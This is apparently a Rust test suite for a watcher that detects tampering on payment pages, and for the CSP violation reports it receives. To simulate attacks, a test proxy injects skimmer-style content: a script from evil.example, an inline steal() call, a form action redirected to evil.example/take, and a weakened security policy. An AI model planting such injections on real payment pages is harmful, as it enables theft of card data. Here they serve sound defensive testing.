//! The watch of the payment pages against a real listener: as the program sends them, and with what a proxy in front of it
//! adds or drops (C29, C30). And what browsers report.

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use app::page_watch::browser::{Browser, Sandbox};
use app::page_watch::visit::{SIGN_IN, Visitor, list_pages};
use app::page_watch::{
    Finding, REPORT_BYTES_MAX, REPORTED_A_DAY_MAX, REPORTS_PER_PLACE, TOLD_AGAIN_DAYS, Watch,
};
use app::server::{self, Listener};
use axum::body::{Body, Bytes, to_bytes};
use axum::http::{HeaderValue, Method, Response, header};
use axum::middleware::{Next, from_fn};
use base::ShopId;
use identity::Role;
use payments::desk::SPECIMEN;
use serde_json::{Value, json};
use testkit::http::Request;
use webkit::page::assets;

use crate::browsing;
use crate::house::{AUTHORITY, House, runtime};

const DAY: i64 = 86_400;
/// What a thief plants, and what the watch has to say of it.
const PLANTED: [(&str, &str); 9] = [
    ("", ""),
    ("inline script", "a script was written into the page, sha256-"),
    ("other script", "the script `https://evil.example/x.js` is not in the inventory"),
    ("no policy", "the header `content-security-policy` is missing"),
    ("weak policy", "the header `content-security-policy` was changed"),
    ("other bytes", "buyer-"),
    ("no integrity", "came without its integrity"),
    ("other form", "the page sends to or loads from `https://evil.example/take`"),
    ("elsewhere", "the page leads on to `https://evil.example/`"),
];

/// A listener with the house's own router behind a proxy that plants the fault with the number that is set.
struct Front {
    house: House,
    url: String,
    fault: Arc<AtomicUsize>,
}

impl Front {
    fn new() -> Front {
        let house = House::new();
        let listener =
            runtime().block_on(Listener::bind(SocketAddr::from(([127, 0, 0, 1], 0)), None)).unwrap();
        let url = format!("http://{}", listener.address().unwrap());
        let context = house.at.context(&url, payments::Screen::starter());
        let fault = Arc::new(AtomicUsize::new(0));
        let planted = Arc::clone(&fault);
        let proxy = from_fn(move |request: axum::extract::Request, next: Next| {
            let fault = PLANTED[planted.load(Ordering::SeqCst)].0;
            async move {
                let path = request.uri().path().to_owned();
                plant(fault, &path, next.run(request).await).await
            }
        });
        let router = server::router(&context, server::edge(&house.at, false, &[])).layer(proxy);
        runtime().spawn(listener.serve(router, std::future::pending()));
        Front { house, url, fault }
    }

    fn with_code(self) -> Front {
        let shop = self.house.shop("SG");
        let made = Request::post("/v1/codes", &json!({"name": "Counter"})).once(&crate::house::key());
        let made = self.house.send(self.house.signed(&shop, made));
        assert_eq!(made.status, 201, "{}", made.json());
        self
    }

    fn watch(&self) -> Watch {
        Watch::new(self.house.at.clone(), &self.url, Arc::new(AtomicBool::new(false))).unwrap()
    }

    fn findings(&self, paths: &[String]) -> Vec<Finding> {
        runtime().block_on(Visitor::new(&self.url, None).unwrap().look(paths)).unwrap().findings
    }

    fn count(&self, sql: &'static str) -> i64 {
        count(&self.house, sql)
    }
}

fn count(house: &House, sql: &'static str) -> i64 {
    house.read(move |tx| tx.query(sql, &[])?.remove(0).int(0))
}

async fn plant(fault: &str, path: &str, answer: axum::response::Response) -> axum::response::Response {
    let (mut head, body) = answer.into_parts();
    let bytes: Bytes = to_bytes(body, usize::MAX).await.unwrap();
    let html =
        head.headers.get(header::CONTENT_TYPE).is_some_and(|kind| kind.as_bytes().starts_with(b"text/html"));
    let mut text = String::from_utf8_lossy(&bytes).into_owned();
    match fault {
        "inline script" if html => text = text.replace("</head>", "<script>steal()</script></head>"),
        "other script" if html => {
            text = text.replace("</body>", "<script src=\"https://evil.example/x.js\"></script></body>");
        }
        "no policy" => drop(head.headers.remove(header::CONTENT_SECURITY_POLICY)),
        "weak policy" if html => {
            let weak = HeaderValue::from_static("script-src 'unsafe-inline' *");
            head.headers.insert(header::CONTENT_SECURITY_POLICY, weak);
        }
        "other bytes" if path.starts_with("/assets/buyer-") => text.push_str("\nsteal()"),
        "no integrity" if html => {
            text = text.replace(&format!(" integrity=\"{}\"", assets::buyer_js().integrity), "");
        }
        "other form" if html => {
            text = text.replace("action=\"/", "action=\"https://evil.example/take\" x=\"/")
        }
        "elsewhere" if html => {
            head.status = axum::http::StatusCode::FOUND;
            head.headers.insert(header::LOCATION, HeaderValue::from_static("https://evil.example/"));
        }
        _ => {}
    }
    head.headers.remove(header::CONTENT_LENGTH);
    Response::from_parts(head, Body::from(text))
}

const CHECKED: &str = "SELECT CAST(COUNT(*) AS BIGINT) FROM audit_entries WHERE body LIKE '%payment_page.checked%' AND body LIKE '%success%'";
const FAILED: &str = "SELECT CAST(COUNT(*) AS BIGINT) FROM audit_entries WHERE body LIKE '%payment_page.checked%' AND body LIKE '%failed%'";
const PROBLEMS: &str =
    "SELECT CAST(COUNT(*) AS BIGINT) FROM audit_entries WHERE body LIKE '%payment_page.problem%'";
const NOTICES: &str =
    "SELECT CAST(COUNT(*) AS BIGINT) FROM outbox_mail WHERE template = 'payment_page_changed'";

#[test]
fn c30_a_page_that_is_received_as_it_was_sent_is_entered_once_a_day() {
    let front = Front::new().with_code();
    front.house.member(ShopId::HOUSE, Role::Operator);
    let watch = front.watch();
    for days in 1..=3 {
        watch.look();
        watch.look();
        assert_eq!((front.count(CHECKED), front.count(FAILED)), (days, 0));
        front.house.wait(DAY);
    }
    assert_eq!((front.count(PROBLEMS), front.count(NOTICES)), (0, 0));
}

#[test]
fn c30_what_a_proxy_plants_or_drops_is_found_on_the_pay_page_and_at_the_door() {
    let front = Front::new().with_code();
    let key = payments::code::code_key(&front.house.at.vault);
    let token = front.house.read(|tx| payments::code::find_any_token(tx, &key)).unwrap();
    for path in [format!("/p/{token}")].into_iter().chain(list_pages()) {
        for (number, (fault, said)) in PLANTED.into_iter().enumerate() {
            front.fault.store(number, Ordering::SeqCst);
            let found = front.findings(std::slice::from_ref(&path));
            let found: Vec<String> = found.iter().map(ToString::to_string).collect();
            assert_eq!(found.is_empty(), fault.is_empty(), "{fault} at {path}: {found:?}");
            assert!(found.iter().all(|finding| finding.contains(said)), "{fault} at {path}: {found:?}");
        }
    }
}

#[test]
fn c30_a_change_is_entered_and_told_once_and_again_when_it_comes_back() {
    let front = Front::new();
    front.house.member(ShopId::HOUSE, Role::Operator);
    let watch = front.watch();
    let look = |fault: usize| {
        front.fault.store(fault, Ordering::SeqCst);
        watch.look();
        front.house.wait(DAY);
        (front.count(PROBLEMS), front.count(NOTICES))
    };
    assert_eq!(look(1), (1, 1));
    assert_eq!(look(1), (1, 1), "what lasts is not told each day");
    assert_eq!(look(3), (2, 2), "another one is");
    assert_eq!(look(0), (2, 2));
    assert_eq!(look(1), (3, 3), "and one that came back");
    assert_eq!((front.count(CHECKED), front.count(FAILED)), (1, 4));
    for days in 1..31 {
        assert_eq!(look(1), if days < 30 { (3, 3) } else { (4, 4) }, "after {days} days");
    }
}

#[test]
fn c30_without_an_operator_the_owners_of_the_shops_are_told() {
    let front = Front::new();
    let shop = front.house.shop("SG");
    front.house.member(shop.id, Role::Owner);
    front.house.member(shop.id, Role::Cashier);
    front.fault.store(2, Ordering::SeqCst);
    front.watch().look();
    assert_eq!((front.count(PROBLEMS), front.count(NOTICES)), (1, 1));
}

#[test]
fn c30_a_page_that_is_not_reached_is_tried_again_and_told_of_after_seven_days() {
    let house = House::new();
    house.member(ShopId::HOUSE, Role::Operator);
    let nobody = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let watch =
        Watch::new(house.at.clone(), &format!("http://{nobody}"), Arc::new(AtomicBool::new(false))).unwrap();
    for day in 0..9 {
        watch.look();
        watch.look();
        assert_eq!(count(&house, PROBLEMS), i64::from(day >= 6), "day {day}");
        house.wait(DAY);
    }
    assert_eq!((count(&house, CHECKED), count(&house, FAILED), count(&house, NOTICES)), (0, 0, 1));
}

#[test]
fn a_watch_that_is_to_stop_looks_no_more() {
    let front = Front::new();
    let stop = Arc::new(AtomicBool::new(true));
    Watch::new(front.house.at.clone(), &front.url, stop).unwrap().look();
    assert_eq!(front.count(CHECKED), 0);
}

#[test]
fn c30_the_command_says_what_it_found_and_with_its_exit_code_too() {
    let front = Front::new();
    let run = |url: &str| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_tillward"));
        let done = command.args(["watch-page", "--url", url, "--json"]).env_clear().output().unwrap();
        (done.status.code().unwrap(), serde_json::from_slice::<Value>(&done.stdout).unwrap_or_default())
    };
    let (code, said) = run(&front.url);
    assert_eq!((code, &said["changed"], &said["pages"]), (0, &json!(false), &json!(2)), "{said}");
    assert_eq!(said["pages_run"], json!(0));
    front.fault.store(2, Ordering::SeqCst);
    let (code, said) = run(&front.url);
    assert_eq!((code, &said["findings"][0]["kind"]), (2, &json!("script")), "{said}");
    let nobody = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    assert_eq!(run(&format!("http://{nobody}")).0, 1);
    assert_eq!(run("pay.shop.example").0, 1);
}

fn report(house: &House, body: &str, kind: &str) -> u16 {
    let request = Request::new(Method::POST, "/csp-reports").with(header::CONTENT_TYPE, kind);
    house.send(Request { body: body.as_bytes().to_vec(), ..request }).status
}

fn violation(host: &str) -> String {
    let page = format!("https://{AUTHORITY}/pay/pay_x");
    let stopped = format!("https://{host}/steal.js?card=4111111111111111");
    let report = json!({"document-uri": page, "effective-directive": "script-src-elem", "blocked-uri": stopped,
        "script-sample": "Li Si"});
    json!({ "csp-report": report }).to_string()
}

const REPORT: &str = "application/csp-report";

#[test]
fn c30_reports_of_browsers_are_told_once_for_each_problem_and_keep_nothing_of_the_payer() {
    let house = House::new();
    house.member(ShopId::HOUSE, Role::Operator);
    for _ in 0..8 {
        assert_eq!(report(&house, &violation("evil.example"), REPORT), 204);
    }
    assert_eq!((count(&house, PROBLEMS), count(&house, NOTICES)), (1, 1));
    assert_eq!(report(&house, &violation("other.example"), "application/csp-report; charset=utf-8"), 204);
    assert_eq!((count(&house, PROBLEMS), count(&house, NOTICES)), (2, 2));
    let sql = "SELECT body FROM audit_entries WHERE body LIKE '%payment_page.problem%'";
    for row in house.read(|tx| tx.query(sql, &[])) {
        let body = row.text(0).unwrap();
        assert!(!body.contains("4111") && !body.contains("steal.js") && !body.contains("pay_x"), "{body}");
        assert!(!body.contains("Li Si"), "{body}");
    }
}

#[test]
fn c30_a_flood_of_reports_is_slowed_and_tells_so_many_problems_a_day() {
    let house = House::new();
    house.member(ShopId::HOUSE, Role::Operator);
    let burst: Vec<u16> = (0..=REPORTS_PER_PLACE)
        .map(|n| report(&house, &violation(&format!("a{n}.example")), REPORT))
        .collect();
    assert_eq!(burst.iter().filter(|status| **status == 204).count(), REPORTS_PER_PLACE as usize);
    assert_eq!(burst.last(), Some(&429));
    for n in 0..20 {
        house.wait(60);
        assert_eq!(report(&house, &violation(&format!("b{n}.example")), REPORT), 204);
    }
    assert_eq!(count(&house, PROBLEMS), REPORTED_A_DAY_MAX);
    house.wait(DAY);
    assert_eq!(report(&house, &violation("c.example"), REPORT), 204);
    assert_eq!(count(&house, PROBLEMS), REPORTED_A_DAY_MAX + 1);
    house.wait(TOLD_AGAIN_DAYS * DAY);
    assert_eq!(report(&house, &violation("c.example"), REPORT), 204);
    assert_eq!(count(&house, PROBLEMS), REPORTED_A_DAY_MAX + 2, "what lasts is told again");
    let known = house.read(|tx| tx.query("SELECT problem FROM page_problems", &[])).len();
    assert_eq!(known, 1, "what is long past is forgotten");
}

#[test]
fn c30_what_is_no_report_is_refused_and_changes_nothing() {
    let house = House::new();
    let sized = |bytes: usize| format!("{{\"csp-report\":{{}}{}}}", " ".repeat(bytes - 17));
    assert_eq!(report(&house, &violation("evil.example"), "text/plain"), 415);
    assert_eq!(report(&house, &violation("evil.example"), "application/json"), 415);
    assert_eq!(report(&house, "{\"csp-report\":", REPORT), 400);
    assert_eq!(report(&house, "7", REPORT), 400);
    assert_eq!(sized(REPORT_BYTES_MAX).len(), REPORT_BYTES_MAX);
    assert_eq!(report(&house, &sized(REPORT_BYTES_MAX + 1), REPORT), 413);
    assert_eq!(report(&house, &sized(REPORT_BYTES_MAX), REPORT), 204);
    assert_eq!(house.send(Request::new(Method::GET, "/csp-reports")).status, 405);
    assert_eq!(
        (count(&house, PROBLEMS), house.read(|tx| tx.query("SELECT problem FROM page_problems", &[])).len()),
        (0, 0)
    );
}

#[test]
fn c29_pages_say_where_browsers_report_to_and_scripts_have_their_integrity() {
    let house = House::new();
    let page = house.send(Request::new(Method::GET, SIGN_IN));
    let policy = page.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    assert!(policy.ends_with("; report-uri /csp-reports"), "{policy}");
    let html = String::from_utf8(page.body.to_vec()).unwrap();
    let scripts: Vec<&str> = html.split("<script").skip(1).collect();
    assert!(scripts.len() >= 2, "{html}");
    assert!(scripts.iter().all(|script| script.contains(" integrity=\"sha256-")), "{html}");
}

/// A program that stands for a browser and shows `html`, whichever page it is asked for, of which the page asked for `request`.
fn browser_that_shows(folder: &std::path::Path, html: &str, request: &str) -> Browser {
    use std::os::unix::fs::PermissionsExt;

    let (program, page) = (folder.join("browser"), folder.join("page"));
    std::fs::write(&page, html).unwrap();
    let asked =
        |who: &str, url: &str| format!("{{\"params\":{{\"initiator\":\"{who}\",\"url\":\"{url}\"}}}},\n");
    let list = folder.join("list");
    std::fs::write(&list, asked("not an origin", "http://x/") + &asked("http://x", request)).unwrap();
    let keep = "for a in \"$@\"; do case $a in --log-net-log=*) to=${a#*=};; esac; done";
    let text = format!("#!/bin/sh\n{keep}\ncp '{}' \"$to\"\ncat '{}'\n", list.display(), page.display());
    std::fs::write(&program, text).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o700)).unwrap();
    Browser { program, sandbox: Sandbox::Kept }
}

#[test]
fn c30_what_browsers_alone_are_given_is_found_where_their_scripts_run() {
    let front = Front::new();
    let honest = front.house.send(Request::new(Method::GET, SIGN_IN));
    let honest = String::from_utf8(honest.body.to_vec()).unwrap();
    let grown = honest.replace("</main>", "<script src=\"https://evil.example/x.js\"></script></main>");
    let look_at = |html: &str, request: &str| {
        let folder = tempfile::tempdir().unwrap();
        let visitor = Visitor::new(&front.url, None).unwrap();
        let visitor = visitor.with_browser(Some(browser_that_shows(folder.path(), html, request)));
        let seen = runtime().block_on(visitor.look(&list_pages())).unwrap();
        (seen.pages_run, seen.findings)
    };
    let own = format!("{}{}", front.url, assets::buyer_js().href);
    let look = |html: &str| look_at(html, &own);
    assert_eq!(look(&honest), (2, vec![]));
    // A script that took itself out of the page again, and one of our own host that is not ours.
    for (request, named) in [
        ("https://evil.example/x.js?pin=314159", "https://evil.example"),
        (&format!("{}/steal.js", front.url), "/steal.js"),
    ] {
        assert_eq!(look_at(&honest, request), (2, vec![Finding::Request(named.to_owned())]));
    }
    let script = Finding::Script("https://evil.example/x.js".to_owned());
    assert_eq!(look(&grown), (2, vec![script]), "what was fetched has no such script");
    assert!(matches!(look("<p>moved</p>").1[..], [Finding::NotAPage(_)]));
}

#[test]
fn c30_a_browser_that_shows_nothing_is_told_once_and_the_rest_is_looked_at() {
    let front = Front::new();
    front.house.member(ShopId::HOUSE, Role::Operator);
    let nowhere = Browser { program: "/nowhere/chromium".into(), sandbox: Sandbox::Kept };
    let watch = front.watch().with_browser(Some(nowhere));
    let look = |fault: usize| {
        front.fault.store(fault, Ordering::SeqCst);
        watch.look();
        front.house.wait(DAY);
        (front.count(PROBLEMS), front.count(NOTICES))
    };
    assert_eq!(look(0), (1, 1));
    assert_eq!(look(0), (1, 1), "what lasts is not told each day");
    assert_eq!(look(2), (2, 2), "what a proxy plants is found all the same");
    let shop = front.house.shop("SG");
    front.house.paid(&shop, &front.house.buyer(crate::house::RICH), 5_000);
}

#[test]
fn c30_the_command_without_its_browser_is_no_clean_look_and_no_change_either() {
    let front = Front::new();
    let mut command = Command::new(env!("CARGO_BIN_EXE_tillward"));
    let options = ["watch-page", "--url", &front.url, "--json", "--watch-browser", "/nowhere/chromium"];
    let done = command.args(options).env_clear().output().unwrap();
    let said: Value = serde_json::from_slice(&done.stdout).unwrap();
    assert_eq!((done.status.code(), &said["changed"]), (Some(1), &json!(false)), "{said}");
    assert_eq!(said["findings"][0]["kind"], json!("not_shown"));
}

#[test]
fn c30_the_specimen_is_the_pin_page_with_nothing_to_pay_and_nothing_to_press() {
    let house = House::new();
    let (shop, buyer) = (house.shop("SG"), house.buyer(crate::house::RICH));
    let bill = house.bill(&shop, 900);
    let real = browsing::page(&format!("/pay/{}", crate::house::text(&bill, "id")), Some(&buyer.token));
    let (real, specimen) = (house.send(real), house.send(browsing::page(SPECIMEN, None)));
    assert_eq!((real.status, specimen.status), (200, 200));
    for (name, _) in webkit::request::list_page_headers() {
        assert_eq!(real.headers.get(&name), specimen.headers.get(&name), "{name}");
    }
    let text = |answer: &testkit::http::Answer| String::from_utf8(answer.body.to_vec()).unwrap();
    let (real, specimen) = (text(&real), text(&specimen));
    let scripts = |html: &str| -> BTreeSet<String> {
        html.split("<script").skip(1).map(|rest| rest.split('>').next().unwrap().to_owned()).collect()
    };
    // A payer with a passkey has one script more than this one.
    assert!(scripts(&specimen).is_superset(&scripts(&real)) && scripts(&specimen).len() == 3);
    assert!(real.contains("name=\"pin\"") && !real.contains("<fieldset"));
    let pressed = specimen.split("<fieldset class=\"stack\" disabled>").nth(1).unwrap();
    let pressed = pressed.split("</fieldset>").next().unwrap();
    for part in ["name=\"pin\"", "data-passkey", "data-place"] {
        assert!(pressed.contains(part), "{part}");
    }
    let main = specimen.split("<main").nth(1).unwrap().split("</main>").next().unwrap();
    assert_eq!(main.matches("<button").count(), pressed.matches("<button").count(), "every button is within");
    let fields = [("pin", "314159".to_owned())];
    let sent = house.send(browsing::form(SPECIMEN, &fields, Some(&buyer.token)));
    assert_eq!(sent.status, 405);
}
